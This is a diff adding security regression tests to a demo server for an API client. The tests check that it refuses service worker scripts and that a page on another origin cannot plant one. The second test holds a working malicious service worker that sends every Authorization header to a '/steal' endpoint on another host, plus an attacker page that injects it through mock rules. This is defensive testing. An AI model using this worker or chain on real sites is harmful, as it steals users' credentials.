@@ -66,3 +66,75 @@ test("every answer of the mock tells a browser never to run it as a page or a sc
     assert.ok(/\bsandbox\b/.test(policy) && policy.includes("default-src 'none'"), `${what}: ${policy}`);
   }
 });
+
+test("the demo server refuses to serve a service worker's script, from /api/ or its own files", async (t) => {
+  const demo = await startDemoServer({ port: 0 });
+  t.after(() => demo.close());
+  for (const path of ["/api/sw.js", "/main.js", "/"]) {
+    const answer = await fetch(`${demo.url}${path}`, { headers: { "service-worker": "script" } });
+    assert.equal(answer.status, 403, path);
+    assert.equal((await answer.json()).errors[0].code, "service_worker_refused", path);
+  }
+  assert.equal((await fetch(`${demo.url}/main.js`)).status, 200, "the page's own scripts load");
+});
+
+test("a page on another loopback origin cannot install a service worker on the demo's origin: the key typed in real mode goes only to the proxy", async (t) => {
+  const upstream = await serveMock({ port: 0, apiKey: "real-key" });
+  const foreign = await startServer();
+  const demo = await startDemoServer({ port: 0, proxyTarget: upstream.url });
+  // The reviewer's chain: rules that make the demo's origin serve a page and a worker script, then a visit.
+  const worker = `self.addEventListener("fetch", (e) => { const a = e.request.headers.get("authorization"); if (a) fetch("${foreign.url}/steal?auth=" + encodeURIComponent(a), { mode: "no-cors" }); });
+self.addEventListener("install", () => self.skipWaiting()); self.addEventListener("activate", (e) => e.waitUntil(clients.claim()));`;
+  const register = `<script>navigator.serviceWorker.register("/api/sw.js", { scope: "/" }).then(() => document.title = "registered", (e) => document.title = "failed " + e);</script>`;
+  const rules = [
+    { path: "/sw.js", times: 1000, status: 200, headers: { "content-type": "text/javascript", "service-worker-allowed": "/" }, body: worker },
+    { path: "/pwn", times: 1000, status: 200, headers: { "content-type": "text/html" }, body: register },
+    // What a rule may still do: a script as text.
+    { path: "/pwn2", times: 1000, status: 200, headers: { "content-type": "text/plain" }, body: register },
+  ];
+  const attackerPage = `<!doctype html><script>
+(async () => {
+  for (const rule of ${JSON.stringify(rules).replaceAll("</", "<\\/")}) {
+    await fetch("${demo.url}/api/__mock/fail", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(rule) });
+  }
+  location = "${demo.url}/api/pwn";
+})();
+</script>`;
+  const attacker = await startServer((req, res) => {
+    res.writeHead(200, { "content-type": "text/html" });
+    res.end(attackerPage);
+  });
+  const browser = await launchChromium();
+  t.after(async () => {
+    await browser.close();
+    await demo.close();
+    await Promise.all([upstream.close(), foreign.close(), attacker.close()]);
+  });
+  const context = await browser.newContext();
+  const visit = await context.newPage();
+  await visit.goto(`http://localhost:${attacker.port}/`);
+  await visit.waitForURL(`${demo.url}/api/pwn`);
+  await visit.waitForFunction(() => document.title !== "", null, { timeout: 3000 }).catch(() => {});
+  assert.equal(await visit.title(), "", "no script of the attacker's ran on the demo's origin");
+  await visit.goto(`${demo.url}/api/pwn2`);
+  await visit.waitForTimeout(500);
+  assert.equal(await visit.title(), "", "a rule's text is not run either");
+  await visit.close();
+
+  const page = await context.newPage();
+  await page.goto(demo.url);
+  await page.waitForSelector("body[data-ready=true]");
+  assert.equal(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((r) => r.length)), 0, "no service worker on the demo's origin");
+  // Even a script of the demo's own origin cannot register one from what the mock answers.
+  demo.mock.fail({ path: "/worker.js", times: 10, status: 200, headers: { "content-type": "text/plain" }, body: worker });
+  const registered = await page.evaluate(() => navigator.serviceWorker.register("/api/worker.js", { scope: "/api/" }).then(() => "registered", () => "refused"));
+  assert.equal(registered, "refused");
+  await page.locator('input[name="mode"][value="real"]').check();
+  await page.locator("#api-key").fill("real-key");
+  await page.locator("#tab-users").click();
+  await page.locator("#tab-listUsers").click();
+  await page.locator("form[data-fn=listUsers] button[type=submit]").click();
+  await page.locator("#call-listUsers .result > *").first().waitFor();
+  assert.ok(upstream.mock.requests.some((r) => r.path === "/contacts"), "the call went through the proxy");
+  assert.deepEqual(foreign.requests.map((r) => r.url), [], "nothing reached another host");
+});
